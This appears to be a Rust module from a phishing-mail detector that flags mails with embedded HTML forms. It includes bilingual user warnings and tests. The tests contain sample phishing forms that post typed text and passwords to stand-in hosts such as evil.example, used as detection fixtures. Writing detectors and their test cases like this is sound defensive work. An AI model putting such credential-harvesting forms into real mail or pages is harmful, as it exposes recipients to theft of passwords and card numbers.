//! The mail itself holds a form that can send what is typed.
//!
//! A form in a mail needs no site to look genuine and no link to be checked: what is typed goes to
//! whoever wrote it. Innocent are saved web pages and surveys sent by mail; most mail clients refuse
//! to send such a form. Dodged by a form without target (a script or a button gives it later) or by
//! a button with a target of its own (`formaction`), so both count.

use crate::facts::Facts;
use crate::indicator::{Evidence, Group, Indicator, Words};
use crate::message::Message;
use crate::message::html::Form;

/// The mail itself holds a form that can send what is typed.
pub(super) static INDICATOR: Indicator = Indicator {
    id: "html-form",
    clause: None,
    group: Group::Link,
    // Newsletters had search boxes; alone it says little.
    points: 10,
    says: Words {
        ja: "メールの本文に、入力した内容を送信するフォームが埋め込まれています（送信先: {target}）。",
        en: "The mail itself contains a form that sends what you type (to: {target}).",
    },
    means: Words {
        ja: "メールの本文の入力欄に書いた内容は、そのまま外部へ送られます。\
             パスワードやカード番号をだまし取る手口に使われますが、アンケートや保存したウェブページのこともあります。\
             メールの中では入力せず、必要なら自分でそのサービスのサイトを開いてください。",
        en: "What is typed into a form in a mail goes straight to whoever wrote it. This is used to \
             steal passwords and card numbers; surveys and saved web pages have forms innocently. \
             Type nothing into the mail; open the service's own site yourself if you need to.",
    },
    look,
};

fn look(mail: &Message<'_>, _facts: &Facts<'_>) -> Option<Evidence> {
    let form = mail.htmls().iter().flat_map(|h| &h.forms).find(|f| can_send(f))?;
    let target = if form.action.is_empty() { "-" } else { form.action.as_str() };
    let typed: Vec<&str> = form.inputs.iter().map(String::as_str).filter(|i| is_typed(i)).collect();
    let shown = format!("{target} [{}]", typed.join(", "));
    Some(Evidence::new(shown).with("target", target))
}

/// Whether something can be typed or chosen and sent. A control with a target of its own belongs to
/// a form even where that stands elsewhere.
fn can_send(form: &Form) -> bool {
    form.control || form.inputs.iter().any(|kind| is_typed(kind))
}

/// Whether a person puts something into a control of this type.
fn is_typed(kind: &str) -> bool {
    !matches!(kind, "hidden" | "submit" | "button" | "image" | "reset")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::indicator::check::{fires, silent};

    fn html(body: &str) -> String {
        format!("Content-Type: text/html; charset=utf-8\n\n{body}\n")
    }

    #[test]
    fn fires_for_forms() {
        let cases = [
            (
                "<form action='https://evil.example/p'><input name=id><input type=password></form>",
                "https://evil.example/p [text, password]",
            ),
            ("<FORM><textarea></textarea></FORM>", "- [textarea]"),
            (
                "<form action='mailto:a@evil.example'><select></select>",
                "mailto:a@evil.example [select]",
            ),
            ("<form id=f action=//evil.example></form><input form=f>", "//evil.example [text]"),
            ("<button formaction='https://evil.example/'>OK</button>", "https://evil.example/ []"),
            ("<div hidden><form action=/x><input type=email></form></div>", "/x [email]"),
        ];
        for (body, evidence) in cases {
            assert_eq!(fires(&INDICATOR, html(body)), evidence);
        }
    }

    #[test]
    fn fires_in_alternatives_and_attached_mails() {
        let form = "<form action='https://evil.example/'><input></form>";
        fires(
            &INDICATOR,
            format!(
                "Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\n\
                 a\n--b\nContent-Type: text/html\n\n{form}\n--b--\n"
            ),
        );
        fires(
            &INDICATOR,
            format!(
                "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: message/rfc822\n\n\
                 Content-Type: text/html\n\n{form}\n--b--\n"
            ),
        );
    }

    #[test]
    fn silent_for_what_sends_nothing() {
        silent(&INDICATOR, html("&lt;form action=x&gt;&lt;input&gt;"));
        silent(&INDICATOR, html("<!-- <form action=x><input></form> -->"));
        silent(&INDICATOR, html("<a href='https://forms.example/f'>アンケート</a>"));
        silent(
            &INDICATOR,
            html("<form action='/open'><input type=hidden><input type=submit></form>"),
        );
        silent(&INDICATOR, html("<input type=checkbox> 済"));
        silent(&INDICATOR, "Content-Type: text/plain\n\n<form action=x><input></form>\n");
    }
}
